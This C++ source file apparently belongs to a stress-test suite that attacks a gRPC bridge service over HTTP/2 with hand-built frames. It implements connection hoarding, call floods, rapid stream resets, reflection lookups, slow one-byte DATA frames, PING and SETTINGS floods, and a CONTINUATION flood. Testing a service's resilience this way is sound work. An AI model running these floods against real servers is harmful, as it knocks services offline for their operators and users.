// Attacks on the bridge's TCP door: HTTP/2 with prior knowledge (RFC 9113), frames written by hand.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <string>
#include <vector>

#include "attacks.hpp"

namespace attack {
namespace {

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr std::size_t kConnections = 16;
constexpr std::size_t kUnsentMax = 16u << 10;
const std::string kStatus = "/ghost.chain.v1.BlockchainService/GetStatus";
const std::string kSubmit = "/ghost.chain.v1.BlockchainService/SubmitTransaction";
const std::string kReflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

enum FrameType : std::uint8_t { kData = 0, kHeaders = 1, kRstStream = 3, kSettings = 4, kPing = 6, kContinuation = 9 };
constexpr std::uint8_t kEndStream = 1, kAck = 1, kEndHeaders = 4;

std::string frame(FrameType type, std::uint8_t flags, std::uint32_t stream, std::string_view payload) {
    std::string out(9, '\0');
    auto* const head = reinterpret_cast<std::byte*>(out.data());
    base::store_be(head, static_cast<std::uint32_t>(payload.size() << 8 | type));
    head[4] = std::byte{flags};
    base::store_be(head + 5, stream);
    return out.append(payload);
}

/// HPACK without the dynamic table (RFC 7541 section 6.2.2).
std::string literal(std::string_view name, std::string_view value) {
    std::string out(1, '\0');
    out += static_cast<char>(name.size());
    out += name;
    out += static_cast<char>(value.size());
    return out.append(value);
}

std::string request(std::uint32_t stream, const std::string& path) {
    std::string block = "\x83\x86";
    block += literal(":path", path) + literal(":authority", "x") + literal("content-type", "application/grpc") +
             literal("te", "trailers");
    return frame(kHeaders, kEndHeaders, stream, block);
}

/// One connection: never blocks, counts the HEADERS that come back, acknowledges SETTINGS.
class Peer {
 public:
    explicit Peer(const io::SocketAddress& door) {
        fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        sockaddr_in from{};
        from.sin_family = AF_INET;
        ::inet_pton(AF_INET, std::string{kStrangerHost}.c_str(), &from.sin_addr);
        const int on = 1;
        ::setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
        if (::bind(fd_, reinterpret_cast<const sockaddr*>(&from), sizeof from) != 0) die("cannot bind 127.0.0.2");
        ::connect(fd_, door.native(), door.native_size());
        out_ = std::string{kPreface} + frame(kSettings, 0, 0, "");
    }
    ~Peer() { ::close(fd_); }
    Peer(const Peer&) = delete;
    Peer& operator=(const Peer&) = delete;

    void write(std::string_view bytes) { out_ += bytes; }
    [[nodiscard]] bool has_room() const { return out_.size() < kUnsentMax; }
    [[nodiscard]] bool lost() const { return lost_; }
    [[nodiscard]] std::uint64_t take_answers() { return std::exchange(answers_, 0); }
    std::uint32_t next_stream() { return stream_ += 2; }
    std::uint32_t streams_open = 0;

    void turn() {
        if (!out_.empty()) {
            const auto sent = ::send(fd_, out_.data(), out_.size(), MSG_NOSIGNAL);
            if (sent > 0) out_.erase(0, static_cast<std::size_t>(sent));
            if (sent < 0 && errno != EAGAIN && errno != ENOTCONN && errno != EINPROGRESS) lost_ = true;
        }
        std::array<char, 16384> chunk;
        const auto got = ::recv(fd_, chunk.data(), chunk.size(), 0);
        if (got == 0 || (got < 0 && errno != EAGAIN && errno != ENOTCONN)) lost_ = true;
        if (got > 0) in_.append(chunk.data(), static_cast<std::size_t>(got));
        std::size_t at = 0;
        while (in_.size() - at >= 9) {
            const auto* const head = reinterpret_cast<const std::byte*>(in_.data() + at);
            const std::size_t size = base::load_be<std::uint32_t>(head) >> 8;
            if (in_.size() - at < 9 + size) break;
            const auto type = std::to_integer<std::uint8_t>(head[3]);
            const auto flags = std::to_integer<std::uint8_t>(head[4]);
            if (type == kHeaders && (flags & kEndStream) != 0) {
                ++answers_;
                if (streams_open > 0) --streams_open;
            }
            if (type == kRstStream && streams_open > 0) --streams_open;
            if (type == kSettings && (flags & kAck) == 0) out_ += frame(kSettings, kAck, 0, "");
            at += 9 + size;
        }
        in_.erase(0, at);
    }

 private:
    int fd_ = -1;
    std::string out_, in_;
    bool lost_ = false;
    std::uint64_t answers_ = 0;
    std::uint32_t stream_ = static_cast<std::uint32_t>(-1);
};

/// Several connections, made again when they are lost; `feed` writes to one and returns how much it offered.
Rates keep_feeding(const Doors& doors, const Going& going, const std::function<std::uint64_t(Peer&)>& feed,
                   std::size_t count = kConnections) {
    std::vector<std::unique_ptr<Peer>> peers(count);
    Rates rates;
    while (going()) {
        for (auto& peer : peers) {
            if (!peer || peer->lost()) peer = std::make_unique<Peer>(doors.bridge_tcp);
            if (peer->has_room()) rates.offered += feed(*peer);
            peer->turn();
            rates.served += peer->take_answers();
        }
    }
    return rates;
}

Rates connections(const Doors& doors, const Going& going) {
    constexpr std::size_t kHeld = 900;
    return keep_feeding(doors, going, [](Peer& peer) { return peer.next_stream() == 1 ? 1 : 0; }, kHeld);
}

Rates calls(const Doors& doors, const Going& going) {
    return keep_feeding(doors, going, [](Peer& peer) -> std::uint64_t {
        if (peer.streams_open >= 8) return 0;
        const auto stream = peer.next_stream();
        peer.write(request(stream, kStatus) + frame(kData, kEndStream, stream, std::string(5, '\0')));
        ++peer.streams_open;
        return 1;
    });
}

Rates resets(const Doors& doors, const Going& going) {
    return keep_feeding(doors, going, [](Peer& peer) -> std::uint64_t {
        const auto stream = peer.next_stream();
        peer.write(request(stream, kStatus) + frame(kData, kEndStream, stream, std::string(5, '\0')) +
                   frame(kRstStream, 0, stream, std::string("\0\0\0\x08", 4)));
        return 1;
    });
}

Rates reflection(const Doors& doors, const Going& going) {
    const std::string symbol = "ghost.wallet.v1.WalletService";
    std::string message = std::string(4, '\0') + static_cast<char>(symbol.size() + 2) + '\x22' +
                          static_cast<char>(symbol.size()) + symbol;
    return keep_feeding(doors, going, [message](Peer& peer) -> std::uint64_t {
        const auto stream = peer.next_stream();
        peer.write(request(stream, kReflection) + frame(kData, 0, stream, message) +
                   frame(kRstStream, 0, stream, std::string("\0\0\0\x08", 4)));
        return 1;
    });
}

/// DATA frames of one byte, on calls that never become complete.
Rates crumbs(const Doors& doors, const Going& going) {
    return keep_feeding(doors, going, [](Peer& peer) -> std::uint64_t {
        constexpr std::uint32_t kCalls = 4;
        if (peer.streams_open == 0) {
            for (std::uint32_t i = 0; i < kCalls; ++i) {
                const auto stream = peer.next_stream();
                peer.write(request(stream, kSubmit) + frame(kData, 0, stream, std::string("\0\0\x10\0\0", 5)));
            }
            peer.streams_open = kCalls;
        }
        std::string bytes;
        constexpr std::uint64_t kFrames = 256;
        for (std::uint64_t i = 0; i < kFrames; ++i)
            bytes += frame(kData, 0, static_cast<std::uint32_t>(1 + 2 * (i % kCalls)), "x");
        peer.write(bytes);
        return kFrames;
    });
}

Rates pings(const Doors& doors, const Going& going) {
    return keep_feeding(doors, going, [](Peer& peer) -> std::uint64_t {
        constexpr std::uint64_t kFrames = 64;
        for (std::uint64_t i = 0; i < kFrames; ++i) peer.write(frame(kPing, 0, 0, "12345678"));
        return kFrames;
    });
}

Rates settings(const Doors& doors, const Going& going) {
    return keep_feeding(doors, going, [](Peer& peer) -> std::uint64_t {
        constexpr std::uint64_t kFrames = 64;
        for (std::uint64_t i = 0; i < kFrames; ++i) peer.write(frame(kSettings, 0, 0, ""));
        return kFrames;
    });
}

Rates continuations(const Doors& doors, const Going& going) {
    return keep_feeding(doors, going, [](Peer& peer) -> std::uint64_t {
        const auto stream = peer.next_stream();
        if (stream == 1) peer.write(frame(kHeaders, 0, stream, "\x83"));
        peer.write(frame(kContinuation, 0, 1, ""));
        return 1;
    });
}

constexpr Attack kAttacks[] = {
    {"bridge-tcp", "connections", "connections", &connections},
    {"bridge-tcp", "calls", "calls", &calls},
    {"bridge-tcp", "resets", "calls", &resets},
    {"bridge-tcp", "reflection", "look-ups", &reflection},
    {"bridge-tcp", "crumbs", "DATA frames", &crumbs},
    {"bridge-tcp", "pings", "frames", &pings},
    {"bridge-tcp", "settings", "frames", &settings},
    {"bridge-tcp", "continuations", "frames", &continuations},
};

}  // namespace

std::span<const Attack> tcp_attacks() { return kAttacks; }

}  // namespace attack
